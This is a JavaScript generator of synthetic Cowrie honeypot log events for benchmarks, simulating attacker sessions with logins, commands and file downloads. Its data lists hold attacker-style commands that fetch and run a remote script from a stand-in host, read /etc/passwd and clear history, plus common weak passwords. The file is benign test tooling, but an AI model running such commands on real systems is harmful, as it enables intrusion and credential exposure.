// Seeded Cowrie JSON events for the benches (bench/cowrie-bench.mjs, bench/report-pg-bench.mjs): sessions
// of connect, client version, kex, login attempts, commands, downloads and a close, as real logs hold.
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { mulberry32 } from './generate-bridge-events.mjs';

const rand = mulberry32(4);
const pick = (list) => list[Math.floor(rand() * list.length)];
const USERS = ['root', 'admin', 'user', 'ubuntu', 'pi', 'test', 'oracle', 'git', 'support', 'guest'];
const PASSWORDS = ['123456', 'password', 'root', 'admin', '12345', 'qwerty', '1234', 'toor', 'raspberry', 'changeme'];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'whoami', 'ls -la', 'cd /tmp', 'wget http://203.0.113.9/x.sh',
  'chmod +x x.sh', './x.sh', 'free -m', 'ps aux', 'nproc', 'echo ok', 'cat /etc/passwd', 'history -c'];
const URLS = Array.from({ length: 40 }, (_, i) => `http://203.0.113.${i % 20}/bin${i}.sh`);
const VERSIONS = ['SSH-2.0-libssh_0.9.6', 'SSH-2.0-Go', 'SSH-2.0-OpenSSH_8.9p1', 'SSH-2.0-PuTTY_Release_0.78'];
const SENSORS = ['hp-a', 'hp-b', 'hp-c'];
const hex = (n) => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join('');

/** Writes about `n` seeded events, ~10 per session, to `path`; returns [events, sessions]. */
export async function generateCowrieEvents(path, n) {
  const out = createWriteStream(path);
  let t = Date.parse('2025-01-01T00:00:00Z');
  let events = 0;
  let sessions = 0;
  let buf = '';
  const emit = async (e) => {
    buf += `${JSON.stringify(e)}\n`;
    events += 1;
    if (buf.length > 1 << 16) {
      if (!out.write(buf)) await once(out, 'drain');
      buf = '';
    }
  };
  while (events < n) {
    const session = hex(12);
    const ip = `198.51.${Math.floor(rand() * 40)}.${Math.floor(rand() * 250)}`;
    const sensor = pick(SENSORS);
    const protocol = rand() < 0.85 ? 'ssh' : 'telnet';
    t += Math.floor(rand() * 30_000);
    let ts = t;
    const base = (eventid) => {
      ts += Math.floor(rand() * 3000);
      return { eventid, timestamp: new Date(ts).toISOString().replace('Z', '123Z'), session, src_ip: ip, sensor, protocol };
    };
    sessions += 1;
    await emit({ ...base('cowrie.session.connect'), src_port: 40000 + Math.floor(rand() * 20000), dst_port: 22 });
    await emit({ ...base('cowrie.client.version'), version: pick(VERSIONS) });
    await emit({ ...base('cowrie.client.kex'), hassh: hex(32) });
    const tries = 1 + Math.floor(rand() * 3);
    let ok = false;
    for (let i = 0; i < tries && !ok; i++) {
      ok = rand() < 0.4;
      await emit({ ...base(ok ? 'cowrie.login.success' : 'cowrie.login.failed'), username: pick(USERS), password: pick(PASSWORDS) });
    }
    if (ok) {
      const cmds = 2 + Math.floor(rand() * 5);
      for (let i = 0; i < cmds; i++) await emit({ ...base('cowrie.command.input'), input: pick(COMMANDS) });
      if (rand() < 0.3) {
        const url = pick(URLS);
        await emit({ ...base('cowrie.session.file_download'), url, shasum: url.length.toString(16).padStart(64, 'a'), outfile: 'x' });
      }
    }
    const duration = (ts - t) / 1000;
    await emit({ ...base('cowrie.session.closed'), duration: rand() < 0.5 ? duration : String(duration) });
  }
  out.end(buf);
  await once(out, 'close');
  return [events, sessions];
}
